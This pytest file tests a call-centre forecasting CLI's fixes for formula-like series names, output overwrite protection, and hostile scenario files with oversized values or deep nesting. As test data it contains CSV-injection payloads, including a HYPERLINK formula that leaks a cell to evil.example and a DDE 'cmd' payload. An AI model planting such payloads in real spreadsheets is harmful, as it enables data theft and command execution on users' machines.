"""Issue 19 at the command line: formula-like names stay text, outputs never overwrite an input or an
existing file unasked, and every hostile scenario file is a sentence with exit status 2."""
from __future__ import annotations

import json
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import queuecast_cli

REPO = Path(__file__).resolve().parents[1]
ARRIVALS = str(REPO / "examples" / "arrivals_2024-11-13.csv")
CURRENT = str(REPO / "examples" / "current.toml")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SIGNS = ("=", "+", "-", "@")


def history_with_formula_names(path: Path) -> Path:
    ds = pd.date_range("2024-01-01", periods=8 * 7, freq="D")
    rows = [f'{d:%Y-%m-%d},"{name.replace(chr(34), chr(34) * 2)}",{100 + i % 7}'
            for name in (FORMULA, "+cmd|' /C calc'!A0", "@SUM(1+1)") for i, d in enumerate(ds)]
    path.write_text("ds,series,y\n" + "\n".join(rows) + "\n", encoding="utf-8")
    return path


def test_forecast_with_formula_like_series_names_writes_no_formula_cell_and_no_formula_csv_cell(tmp_path, capsys):
    hist = history_with_formula_names(tmp_path / "hist.csv")
    for out in ("f.xlsx", "f.csv"):
        status = queuecast_cli.main(["forecast", str(hist), "--horizon", "7D", "--model", "seasonal_naive",
                                     "--out", str(tmp_path / out)])
        assert status == 0, capsys.readouterr().err
    wb = openpyxl.load_workbook(tmp_path / "f.xlsx")
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    names = {c.value for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value}
    assert names == {"'" + FORMULA}
    text = (tmp_path / "f.csv").read_text(encoding="utf-8")
    import csv

    for row in csv.reader(text.splitlines()):
        for cell in row:
            assert not cell.startswith(SIGNS) or _is_number(cell), cell


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_sweep_writes_scenario_names_escaped(tmp_path, capsys):
    sc = tmp_path / "evil.toml"
    sc.write_text(f'name = {json.dumps("@SUM(A1:A9)")}\naht = 540.0\n', encoding="utf-8")
    out = tmp_path / "sweep.csv"
    status = queuecast_cli.main(["sweep", ARRIVALS, "--scenarios", str(sc), "--staffing", "100",
                                 "--replications", "2", "--workers", "1", "--out", str(out)])
    assert status == 0, capsys.readouterr().err
    table = pd.read_csv(out, dtype=str)
    assert set(table["scenario"]) == {"'@SUM(A1:A9)"}


@pytest.mark.parametrize("command", [
    ["forecast", "{hist}", "--horizon", "1D", "--model", "seasonal_naive", "--out", "{hist}"],
    ["simulate", ARRIVALS, "--scenario", CURRENT, "--staffing", "100", "--replications", "1", "--out", ARRIVALS],
    ["staff", ARRIVALS, "--scenario", CURRENT, "--method", "erlang_c", "--out", ARRIVALS],
])
def test_out_equal_to_an_input_is_refused_and_the_input_is_untouched(tmp_path, capsys, command):
    hist = history_with_formula_names(tmp_path / "hist.csv")
    argv = [a.format(hist=hist) for a in command]
    target = Path(argv[-1])
    before = target.read_bytes()
    status = queuecast_cli.main(argv)
    err = capsys.readouterr().err
    assert status == 2 and "input" in err
    assert target.read_bytes() == before


def test_an_existing_output_and_its_sibling_files_are_not_clobbered_without_force(tmp_path, capsys):
    out = tmp_path / "kpis.csv"
    summary = tmp_path / "kpis_summary.csv"
    summary.write_text("precious\n", encoding="utf-8")
    argv = ["simulate", ARRIVALS, "--scenario", CURRENT, "--staffing", "100", "--replications", "1", "--out", str(out)]
    assert queuecast_cli.main(argv) == 2
    assert "kpis_summary.csv" in capsys.readouterr().err
    assert summary.read_text(encoding="utf-8") == "precious\n" and not out.exists()  # nothing written at all
    assert queuecast_cli.main([*argv, "--force"]) == 0
    assert summary.read_text(encoding="utf-8") != "precious\n" and out.exists()


@pytest.mark.parametrize("text, words", [
    ('name = "x"\n[[call_types]]\nshare = 1.0\n', "'name' and 'share' are required"),
    ('name = "x"\n[[call_types]]\nname = "a"\nshare = 1.0\nbogus = 1\n', "unknown keys"),
    ('name = "x"\nmax_attempts = 1000000000000000000000\nredial_prob = 0.5\n', "MAX_ATTEMPTS"),
    ('name = "x"\naht_cv = 1e300\naht_dist = "lognormal"\n', "MAX_CV"),
    ('name = "x"\nredial_prob = 1.0\nmax_attempts = 100\n', "MAX_EXPECTED_ATTEMPTS"),
    ("", "empty"),
    ("x = " + "[" * 5000 + "]" * 5000 + "\n", "MAX_NESTING_DEPTH"),
])
def test_a_hostile_scenario_file_is_a_sentence_and_exit_2(tmp_path, capsys, text, words):
    sc = tmp_path / "s.toml"
    sc.write_text(text, encoding="utf-8")
    status = queuecast_cli.main(["simulate", ARRIVALS, "--scenario", str(sc), "--staffing", "100",
                                 "--replications", "1", "--out", str(tmp_path / "k.csv")])
    err = capsys.readouterr().err
    assert status == 2, err
    assert words in err and "Traceback" not in err and "unexpected" not in err


def test_a_deeply_nested_json_scenario_is_refused_with_the_limit(tmp_path, capsys):
    sc = tmp_path / "s.json"
    sc.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    status = queuecast_cli.main(["simulate", ARRIVALS, "--scenario", str(sc), "--staffing", "100",
                                 "--out", str(tmp_path / "k.csv")])
    assert status == 2 and "MAX_NESTING_DEPTH" in capsys.readouterr().err


def test_a_bug_deep_in_a_library_is_not_dressed_up_as_bad_input(monkeypatch, tmp_path, capsys):
    import numpy as np

    def broken(*args, **kwargs):
        return np.zeros(2) + np.zeros(3)  # numpy's own ValueError: a bug, not the user's data

    monkeypatch.setattr("simulate.run", broken)
    status = queuecast_cli.main(["simulate", ARRIVALS, "--scenario", CURRENT, "--staffing", "100",
                                 "--out", str(tmp_path / "k.csv")])
    err = capsys.readouterr().err
    assert status == 1 and "bug" in err and "--debug" in err
